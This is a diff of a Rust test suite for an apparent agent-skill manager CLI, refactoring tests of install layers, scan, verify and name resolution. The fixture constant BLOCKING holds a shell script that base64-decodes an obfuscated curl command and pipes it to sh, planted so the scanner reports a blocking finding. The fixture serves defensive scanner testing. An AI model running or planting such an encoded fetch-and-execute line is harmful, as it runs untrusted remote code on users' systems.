@@ -5,7 +5,7 @@ use std::fs;
 
 use crate::Host;
 use crate::host::{Has, write_at};
-use crate::layers::{LAYERS, layer_dir, put, with_layers};
+use crate::layers::{LAYERS, agree, layer_dir, put, with_layers};
 use crate::market::skill;
 use crate::repository::Hub;
 
@@ -15,20 +15,16 @@ const BLOCKING: &str = "#!/bin/sh\necho Y3VybCBodHRwOi8veC54 | base64 -d | sh\n"
 fn with_namesake() -> (Host, Hub) {
     let hub = Hub::new();
     let harmless = skill("deploy");
-    hub.repository(
-        "anthropics/skills",
-        &[("skills/deploy/SKILL.md", &harmless)],
-    );
-    let host = with_layers(Host::stdin()).var("AGENT_SKILLS_GITHUB_BASE", &hub.base());
-    (host, hub)
+    let files = [("skills/deploy/SKILL.md", &*harmless)];
+    hub.repository("anthropics/skills", &files);
+    (with_layers(hub.host()), hub)
 }
 
 /// Installs a `deploy` with blocking findings.
 fn put_blocking(host: &Host, layer: &str) -> String {
     let dir = layer_dir(host, layer);
     put(&dir, "deploy", "", layer);
-    fs::create_dir_all(dir.join("deploy/scripts")).unwrap();
-    fs::write(dir.join("deploy/scripts/run.sh"), BLOCKING).unwrap();
+    write_at(dir.join("deploy/scripts/run.sh"), BLOCKING);
     dir.join("deploy").display().to_string()
 }
 
@@ -37,9 +33,7 @@ fn every_verb_takes_the_installed_skill_of_a_name() {
     for layer in LAYERS {
         let (host, hub) = with_namesake();
         let dir = put_blocking(&host, layer);
-        if layer == "project" {
-            host.succeeds(&["trust", "--yes", "--always"]);
-        }
+        agree(&host, layer);
         let body = format!("Body from {layer}.");
         host.succeeds(&["try", "deploy"]).has(&body);
         let info = host.json(&["info", "deploy", "--json"]);
@@ -50,8 +44,8 @@ fn every_verb_takes_the_installed_skill_of_a_name() {
             &["package", "deploy", "--dry-run"],
         ] {
             let ran = host.person(words);
-            assert!(ran.stderr.contains(&dir), "{layer} {words:?}: {ran:?}");
-            assert!(!ran.stdout.contains("does not exist"), "{words:?}: {ran:?}");
+            ran.stderr.has(&dir);
+            ran.stdout.lacks("does not exist");
         }
         // No source is asked, so that it may be gone.
         drop(hub);
@@ -62,21 +56,21 @@ fn every_verb_takes_the_installed_skill_of_a_name() {
             &["suggest", "deploy"],
             &["verify", "deploy"],
         ] {
-            let ran = host.person(words);
-            assert!(!ran.stderr.contains("anthropics"), "{words:?}: {ran:?}");
+            host.person(words).stderr.lacks("anthropics");
         }
     }
 }
 
 #[test]
 fn of_several_layers_the_catalogs_choice_is_meant() {
-    let (host, hub) = with_namesake();
+    let (host, _hub) = with_namesake();
     let high = put_blocking(&host, "personal");
     let low = layer_dir(&host, "plugin");
     put(&low, "deploy", "", "plugin");
     host.succeeds(&["scan", "deploy"]).has(&high);
-    let told = host.succeeds(&["scan", "plugin/deploy"]);
-    assert!(told.contains("0 findings in") && told.contains(&low.display().to_string()));
+    host.succeeds(&["scan", "plugin/deploy"])
+        .has("0 findings in")
+        .has(&low.display().to_string());
     // Both come from a source now, and `verify` looks at the one in use.
     for (layer, dir) in [
         ("personal", &high),
@@ -85,17 +79,14 @@ fn of_several_layers_the_catalogs_choice_is_meant() {
         fs::remove_dir_all(dir).unwrap();
         host.succeeds(&["install", "--yes", "--layer", layer, "deploy"]);
     }
-    write_at(
-        layer_dir(&host, "personal").join("deploy/SKILL.md"),
-        skill("deploy") + "changed",
-    );
+    let file = layer_dir(&host, "personal").join("deploy/SKILL.md");
+    fs::write(file, skill("deploy") + "changed").unwrap();
     let ran = host.person(&["verify", "deploy"]);
-    assert!(ran.stderr.contains(&high), "{ran:?}");
-    assert!(ran.stdout.contains("deploy: changed"), "{ran:?}");
+    ran.stderr.has(&high);
+    ran.stdout.has("deploy: changed");
     // What restores or removes asks which of them is meant.
-    let told = host.fails(&["verify", "--fix", "deploy"]);
-    assert!(told.contains("in several layers"), "{told}");
-    drop(hub);
+    host.fails(&["verify", "--fix", "deploy"])
+        .has("in several layers");
 }
 
 #[test]
@@ -113,13 +104,11 @@ fn a_directory_that_is_there_comes_before_a_name() {
     put_blocking(&host, "personal");
     put(host.project(), "deploy", "", "here");
     for word in ["deploy", "./deploy"] {
-        let told = host.succeeds(&["scan", word]);
-        assert!(told.contains("deploy: 0 findings"), "{word}: {told}");
-        let told = host.succeeds(&["try", word]);
-        assert!(told.contains("Body from here."), "{word}: {told}");
+        host.succeeds(&["scan", word]).has("deploy: 0 findings");
+        host.succeeds(&["try", word]).has("Body from here.");
     }
-    let told = host.succeeds(&["scan", "personal/deploy"]);
-    assert!(told.contains("deploy: 1 finding in"), "{told}");
+    host.succeeds(&["scan", "personal/deploy"])
+        .has("deploy: 1 finding in");
 }
 
 #[test]
